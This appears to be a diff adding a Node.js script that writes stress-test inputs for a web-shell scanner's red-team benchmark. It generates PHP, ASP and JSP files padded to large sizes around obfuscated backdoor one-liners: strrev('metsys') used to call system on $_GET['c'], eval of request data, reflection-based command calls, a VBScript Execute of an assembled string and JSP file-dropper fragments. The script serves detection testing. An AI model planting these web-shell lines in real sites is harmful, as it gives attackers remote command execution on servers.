@@ -1,0 +1,67 @@
+// Generates hostile inputs for the S21 change (php-fold, php-flow, web-source) into bench/redteam/s21/hostile/.
+import { writeFileSync, mkdirSync } from 'node:fs';
+import { join } from 'node:path';
+const dir = new URL('./s21/hostile/', import.meta.url).pathname;
+mkdirSync(dir, { recursive: true });
+const MiB = 1024 * 1024;
+const fill = (unit, bytes) => unit.repeat(Math.ceil(bytes / unit.length)).slice(0, bytes);
+const w = (name, s) => writeFileSync(join(dir, name), s);
+const K32 = 32 * 1024 - 64;
+// php-fold (files of up to 32 KiB reach it)
+w('calledgroups.php', '<?php $f = strrev("metsys");\n' + fill('(a.b)(', K32) + '\n$f($_GET["c"]);');
+w('defines.php', '<?php $f = strrev("metsys");\n' + fill("define('A','b');", K32) + '\n$f($_GET["c"]);');
+w('defines-unclosed.php', '<?php $f = strrev("metsys");\n' + fill("define('A',(", K32) + '\n$f($_GET["c"]);');
+w('this-assign.php', '<?php $f = strrev("metsys");\n' + fill('$this->x = (', K32) + '\n$f($_GET["c"]);');
+w('this-assign2.php', '<?php $f = strrev("metsys");\n' + fill('$this->x=$y;', K32) + '\n$f($_GET["c"]);');
+w('props.php', '<?php $f = strrev("metsys");\nclass K {' + fill('var $p = "s";', K32) + '}\n$f($_GET["c"]);');
+w('elements.php', '<?php $f = strrev("metsys");\n' + fill("$a[]='system';", K32) + '\n$f($_GET["c"]);');
+w('elements-keyed.php', '<?php $f = strrev("metsys");\n' + Array.from({ length: 2000 }, (_, i) => `$a['k${i}']='s';`).join('').slice(0, K32) + '\n$f($_GET["c"]);');
+w('foreach.php', '<?php $f = strrev("metsys");\n' + fill('foreach([115,121,115] as $n) $g .= chr($n);', K32) + '\n$f($_GET["c"]);');
+w('foreach-unclosed.php', '<?php $f = strrev("metsys");\n' + fill('foreach([1,', K32) + '\n$f($_GET["c"]);');
+w('foreach-big.php', '<?php $f = strrev("metsys");\n' + fill(`foreach([${Array(250).fill('115').join(',')}] as $n) { $g .= str_repeat(chr($n), 16); }\n`, K32) + '\n$f($_GET["c"]);');
+w('heredoc.php', '<?php $f = strrev("metsys");\n' + fill('$a = <<<EOT\n', K32) + '\n$f($_GET["c"]);');
+w('heredoc-escapes.php', '<?php $f = strrev("metsys");\n$a = <<<EOT\n' + fill('\\x73\\$', K32 - 100) + '\nEOT;\n$f($_GET["c"]);');
+w('fns.php', '<?php ' + Array.from({ length: 64 }, (_, i) => `function f${i}($x){return f${i + 1}($x).f${i + 1}($x);}`).join('\n') + '\n' + fill('f0("s");', 20000) + '\n$f = strrev("metsys"); $f($_GET["c"]);');
+w('fns-recursive.php', '<?php function g($x){return g(g(g(g($x))));}\n' + fill('$a = g(g(g(g("s"))));', 30000) + '\n$f = strrev("metsys"); $f($_GET["c"]);');
+w('extract.php', '<?php $f = strrev("metsys");\n' + fill(`extract([${Array.from({ length: 200 }, (_, i) => `'v${i}'=>'system'`).join(',')}]);\n`, K32) + '\n$f($_GET["c"]);');
+w('consts.php', '<?php $f = strrev("metsys");\n' + fill('const A=B;', K32) + '\n$f($_GET["c"]);');
+w('members.php', '<?php $f = strrev("metsys"); const S="system";\n' + fill('K::F ', K32) + '\n$f($_GET["c"]);');
+w('unclosed-rhs.php', '<?php $f = strrev("metsys");\n' + fill('$a[]=(', K32) + '\n$f($_GET["c"]);');
+// php-flow on big files
+w('obstart.php', '<?php $cb = "system";\n' + fill('ob_start($cb);', 16 * MiB - 64) + '\n');
+w('obstart-small.php', '<?php ' + fill('ob_start($cb);$cb=1;', 1 * MiB) + '\n');
+w('namecalls.php', '<?php function g($a){ system($a); }\n' + fill("call_user_func('g', $_GET['c']);", 16 * MiB - 64));
+w('reflection.php', '<?php function g($a){ system($a); }\n' + fill("(new ReflectionFunction('g'))->invoke($_GET['c']);", 16 * MiB - 64));
+w('parens.php', '<?php $x = ' + '('.repeat(1 << 20) + "'a'" + ')'.repeat(1 << 20) + ' . "b"; system($x);');
+w('pack.php', '<?php ' + fill("pack('H*','" + '41'.repeat(9000), 16 * MiB));
+w('paren-calls.php', '<?php ' + fill("('a')(", 16 * MiB));
+w('closures.php', '<?php ' + fill('$g = function($f, $a) { $f($a); }; $g("system", $_GET["c"]);', 32 * 1024 - 16));
+w('getpost.php', '<?php ' + fill('$x = $_GET + $_POST; eval($x);', 16 * MiB));
+// web-source
+w('cs-chars.aspx', '<%@ Page Language="C#" %><script runat="server">' + 'new string(new char[]{' + Array(200).fill("'a'    ").join('') + '\n</script>');
+w('cs-chars-many.aspx', '<%@ Page Language="C#" %><script runat="server">' + fill('new string(new char[]{' + Array(30).fill("'a'    ").join(''), 1 * MiB) + '\n</script>');
+w('cs-join.aspx', '<%@ Page Language="C#" %><script runat="server">' + 'string.Join("", new char[]{' + Array(200).fill("'a'    ").join('') + '\n</script>');
+w('cs-charcodes.aspx', '<%@ Page Language="C#" %><script runat="server">' + 'new string(new char[]{' + Array(200).fill('(char)65    ').join('') + '\n</script>');
+w('cs-b64.aspx', '<%@ Page Language="C#" %><script runat="server">' + fill('Encoding.UTF8.GetString(Convert.FromBase64String("' + 'QUFB'.repeat(1000), 16 * MiB) + '\n</script>');
+w('cs-reverse.aspx', '<%@ Page Language="C#" %><script runat="server">' + fill('new string("' + 'a'.repeat(400), 16 * MiB) + '\n</script>');
+w('vb-statements.asp', fill('a=b:', 65536));
+w('vb-quotes.asp', 'x="\n' + fill('a=":b=1:', 65536 - 4));
+w('vb-quotes2.asp', fill('a="x"&b:', 65536));
+w('vb-names.asp', Array.from({ length: 8000 }, (_, i) => `v${i}="e"`).join('\n').slice(0, 65536) + '\n');
+w('vb-names-uses.asp', (Array.from({ length: 3000 }, (_, i) => `v${i}="e"`).join('\n') + '\n' + fill('v2999 & ', 65536)).slice(0, 65536));
+w('vb-join.asp', 'x = ' + fill('Join(Array("a", "b"), "")&', 65530) + '\n');
+w('vb-join-open.asp', 'x = Join(' + fill('Array("a", ', 65530) + '\n');
+w('vb-dict.asp', 'Set d = CreateObject("Scripting.Dictionary")\n' + Array.from({ length: 6000 }, (_, i) => `d.Add "k${i}", "ev"`).join('\n').slice(0, 60000) + '\nx = d.Item("k1") & "al"\nExecute x\n');
+w('vb-arrays.asp', fill('a = Array(' + Array(500).fill('"x"').join(',') + ')\n', 65530));
+w('jspx-entities.jspx', '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page">' + fill('&#x41;&lt;&#65;', 16 * MiB - 200) + '</jsp:root>');
+w('jspx-cdata.jspx', '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page">' + fill('<![CDATA[', 16 * MiB - 200) + '</jsp:root>');
+w('jsp-joined-escapes.jsp', '<% String s = ' + fill('"\\"\\\\\\"" + ', 16 * MiB - 200) + '""; %>');
+w('jsp-el.jsp', fill('${', 16 * MiB));
+w('jsp-el2.jsp', fill('${' + 'a'.repeat(390) + '[param.', 16 * MiB));
+w('jsp-dropper.jsp', fill('new FileWriter(request.getParameter("a")).write(', 16 * MiB));
+w('jsp-reader.jsp', '<% String c = ' + fill('request.getReader().readLine() + ', 16 * MiB - 100) + '""; %>');
+w('jsp-newstring.jsp', fill('<% String c = new String(request.getParameter("a")); %>\n', 16 * MiB));
+// S21R-2: many ob_start($v) over a MiB of assignments to $v (in process: under 1,000,000 bytes)
+w('obstart-quad.php', '<?php echo $_GET["c"]; ' + 'ob_start($cb);'.repeat(2000) + '$cb=1;'.repeat(160000) + '\n');
+w('obstart-quad2.php', '<?php echo $_GET["c"]; ' + Array.from({ length: 2000 }, (_, i) => `ob_start($c${i});`).join('') + '$cb=1;'.repeat(160000) + '\n');
+console.log('ok');
